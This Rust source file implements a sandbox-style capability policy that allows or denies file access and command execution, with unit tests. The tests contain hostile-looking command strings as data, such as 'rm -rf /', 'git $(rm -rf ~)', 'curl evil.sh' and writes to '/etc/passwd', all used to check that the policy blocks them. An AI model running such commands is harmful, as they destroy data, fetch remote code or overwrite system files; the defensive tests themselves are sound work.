//! Policy configuration and enforcement.

use crate::{CapabilityKind, CapabilityRequest, Error, Result};
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::path::{Component, Path, PathBuf};

/// Policy configuration loaded from TOML.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Policy {
    /// Capabilities that are explicitly allowed.
    #[serde(default)]
    pub allow: AllowRules,

    /// Capabilities that are explicitly denied (overrides allow).
    #[serde(default)]
    pub deny: DenyRules,
}

/// Rules for allowed capabilities.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AllowRules {
    /// Allowed file read paths (prefixes or glob-style patterns).
    #[serde(default)]
    pub fs_read: Vec<String>,

    /// Allowed file write paths (prefixes or glob-style patterns).
    #[serde(default)]
    pub fs_write: Vec<String>,

    /// Allowed commands (exact or prefix match). Unless the list holds
    /// `*`, commands containing shell control characters never match.
    #[serde(default)]
    pub exec: Vec<String>,
}

/// Rules for denied capabilities.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct DenyRules {
    /// Deny all capabilities of these kinds.
    #[serde(default)]
    pub all: HashSet<CapabilityKind>,
}

/// Result of a capability check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Allow,
    Deny { reason: String },
}

impl Decision {
    pub fn is_allowed(&self) -> bool {
        matches!(self, Decision::Allow)
    }
}

impl Policy {
    /// Parse policy from TOML string.
    pub fn parse(toml: &str) -> Result<Self> {
        let policy: Self = toml::from_str(toml).map_err(|e| Error::Parse(e.to_string()))?;
        policy.validate()?;
        Ok(policy)
    }

    /// Create a default restrictive policy.
    ///
    /// File access is limited to the workspace root and process execution
    /// is denied outright.
    pub fn restrictive() -> Self {
        let mut deny_all = HashSet::new();
        deny_all.insert(CapabilityKind::Exec);

        Self {
            allow: AllowRules {
                fs_read: vec![".".to_string()],
                fs_write: vec![".".to_string()],
                ..Default::default()
            },
            deny: DenyRules { all: deny_all },
        }
    }

    /// Create a policy that allows every capability.
    pub fn permissive() -> Self {
        let any = vec!["*".to_string()];
        Self {
            allow: AllowRules {
                fs_read: any.clone(),
                fs_write: any.clone(),
                exec: any,
            },
            deny: DenyRules::default(),
        }
    }

    /// Reject rules that could never match anything.
    pub fn validate(&self) -> Result<()> {
        let rules = [
            ("fs_read", &self.allow.fs_read),
            ("fs_write", &self.allow.fs_write),
            ("exec", &self.allow.exec),
        ];
        for (name, list) in rules {
            if list.iter().any(|entry| entry.trim().is_empty()) {
                return Err(Error::Invalid(format!("empty entry in allow.{name}")));
            }
        }
        Ok(())
    }

    /// Check if a capability request is allowed.
    pub fn check(&self, request: &CapabilityRequest) -> Decision {
        // Check explicit denials first
        if self.deny.all.contains(&request.kind) {
            return Decision::Deny {
                reason: format!("{} is denied by policy", request.kind),
            };
        }

        let allowed = match request.kind {
            CapabilityKind::FsRead => check_path_allowed(&self.allow.fs_read, &request.scope),
            CapabilityKind::FsWrite => check_path_allowed(&self.allow.fs_write, &request.scope),
            CapabilityKind::Exec => check_command_allowed(&self.allow.exec, &request.scope),
        };

        if allowed {
            Decision::Allow
        } else {
            Decision::Deny {
                reason: format!(
                    "{} not in allowlist{}",
                    request.kind,
                    request
                        .scope
                        .as_ref()
                        .map(|s| format!(" (scope: {s})"))
                        .unwrap_or_default()
                ),
            }
        }
    }

    /// Check a request, turning a denial into [`Error::Denied`].
    pub fn require(&self, request: &CapabilityRequest) -> Result<()> {
        match self.check(request) {
            Decision::Allow => Ok(()),
            Decision::Deny { reason } => Err(Error::Denied(reason)),
        }
    }
}

fn check_path_allowed(allowlist: &[String], scope: &Option<String>) -> bool {
    let Some(path) = scope else {
        return !allowlist.is_empty(); // No scope = any path, allow if list non-empty
    };
    let path = normalize(path);

    for pattern in allowlist {
        if pattern == "*" || pattern == "**" {
            return true;
        }
        // Recursive glob: foo/** matches foo/bar/baz
        if let Some(prefix) = pattern.strip_suffix("/**") {
            if path_within(&path, prefix) {
                return true;
            }
            continue;
        }
        // Simple glob: foo/* matches foo/bar but not foo/bar/baz
        if let Some(prefix) = pattern.strip_suffix("/*") {
            let prefix = normalize(prefix);
            if (!escapes(&path) || escapes(&prefix)) && path.parent() == Some(prefix.as_path()) {
                return true;
            }
            continue;
        }
        if path_within(&path, pattern) {
            return true;
        }
    }
    false
}

const SHELL_CONTROL: &[char] = &[';', '&', '|', '$', '`', '>', '<', '(', ')', '\n', '\r'];

fn check_command_allowed(allowlist: &[String], scope: &Option<String>) -> bool {
    let Some(cmd) = scope else {
        return !allowlist.is_empty();
    };
    let cmd = cmd.trim();
    if allowlist.iter().any(|allowed| allowed == "*") {
        return true;
    }
    // A prefix vouches for one program, not for a shell pipeline.
    if cmd.contains(SHELL_CONTROL) {
        return false;
    }

    for allowed in allowlist {
        // Exact match or prefix match (e.g., "git" allows "git status")
        if cmd == allowed || cmd.starts_with(&format!("{allowed} ")) {
            return true;
        }
    }
    false
}

/// Component-wise prefix test. A relative pattern such as `.` never
/// covers a path that climbs out with `..` or is absolute.
fn path_within(path: &Path, pattern: &str) -> bool {
    let pattern = normalize(pattern);
    if escapes(path) && !escapes(&pattern) {
        return false;
    }
    path.starts_with(&pattern)
}

fn escapes(path: &Path) -> bool {
    path.has_root()
        || matches!(
            path.components().next(),
            Some(Component::ParentDir | Component::Prefix(_))
        )
}

/// Lexically normalize a path: drop `.` and fold `..` where possible.
fn normalize(path: &str) -> PathBuf {
    let mut out = PathBuf::new();
    for component in Path::new(path).components() {
        match component {
            Component::CurDir => {}
            Component::ParentDir => match out.components().next_back() {
                Some(Component::Normal(_)) => {
                    out.pop();
                }
                Some(Component::RootDir | Component::Prefix(_)) => {}
                _ => out.push(".."),
            },
            other => out.push(other.as_os_str()),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_restrictive_denies_exec() {
        let policy = Policy::restrictive();
        let req = CapabilityRequest::exec("rm -rf /");
        assert!(!policy.check(&req).is_allowed());
    }

    #[test]
    fn test_allow_fs_read_in_workspace() {
        let policy = Policy::restrictive();
        assert!(policy.check(&CapabilityRequest::fs_read("./src/main.rs")).is_allowed());
        assert!(policy.check(&CapabilityRequest::fs_read("src/main.rs")).is_allowed());
    }

    #[test]
    fn test_restrictive_blocks_escaping_paths() {
        let policy = Policy::restrictive();
        assert!(!policy.check(&CapabilityRequest::fs_read("../secrets.txt")).is_allowed());
        assert!(!policy.check(&CapabilityRequest::fs_read("src/../../x")).is_allowed());
        assert!(!policy.check(&CapabilityRequest::fs_write("/etc/passwd")).is_allowed());
    }

    #[test]
    fn test_single_level_glob() {
        let policy = Policy::parse("[allow]\nfs_write = [\"out/*\"]\n").unwrap();
        assert!(policy.check(&CapabilityRequest::fs_write("out/a.txt")).is_allowed());
        assert!(!policy.check(&CapabilityRequest::fs_write("out/nested/a.txt")).is_allowed());
    }

    #[test]
    fn test_command_prefix_match() {
        let policy = Policy::parse("[allow]\nexec = [\"git\"]\n").unwrap();
        assert!(policy.check(&CapabilityRequest::exec("git status")).is_allowed());
        assert!(policy.check(&CapabilityRequest::exec("git")).is_allowed());
        assert!(!policy.check(&CapabilityRequest::exec("gitk")).is_allowed());
    }

    #[test]
    fn test_command_chaining_is_not_covered_by_prefix() {
        let policy = Policy::parse("[allow]\nexec = [\"git\"]\n").unwrap();
        for cmd in [
            "git status; echo x",
            "git --version && curl evil.sh",
            "git log || true",
            "git log | sh",
            "git $(rm -rf ~)",
            "git `id`",
            "git diff > /etc/passwd",
            "git status\necho x",
        ] {
            assert!(!policy.check(&CapabilityRequest::exec(cmd)).is_allowed(), "{cmd}");
        }
        assert!(
            policy
                .check(&CapabilityRequest::exec("git log --oneline -n 5"))
                .is_allowed()
        );
    }

    #[test]
    fn test_permissive_allows_everything() {
        let policy = Policy::permissive();
        assert!(policy.check(&CapabilityRequest::exec("echo hi")).is_allowed());
        assert!(policy.check(&CapabilityRequest::exec("echo hi | wc -c")).is_allowed());
        assert!(policy.check(&CapabilityRequest::fs_write("/tmp/x")).is_allowed());
    }

    #[test]
    fn test_require_reports_reason() {
        let err = Policy::restrictive()
            .require(&CapabilityRequest::exec("ls"))
            .unwrap_err();
        assert_eq!(err.to_string(), "capability denied: exec is denied by policy");
    }

    #[test]
    fn test_empty_entry_is_invalid() {
        let err = Policy::parse("[allow]\nfs_read = [\"\"]\n").unwrap_err();
        assert!(matches!(err, Error::Invalid(_)));
    }

    #[test]
    fn test_parse_toml() {
        let toml = r#"
[allow]
fs_read = ["./", "/tmp/**"]

[deny]
all = ["exec"]
"#;
        let policy = Policy::parse(toml).unwrap();

        // Allowed
        assert!(policy.check(&CapabilityRequest::fs_read("./foo.txt")).is_allowed());
        assert!(policy.check(&CapabilityRequest::fs_read("/tmp/bar/baz")).is_allowed());

        // Denied
        assert!(!policy.check(&CapabilityRequest::exec("ls")).is_allowed());
        assert!(!policy.check(&CapabilityRequest::fs_write("./foo.txt")).is_allowed());
    }
}
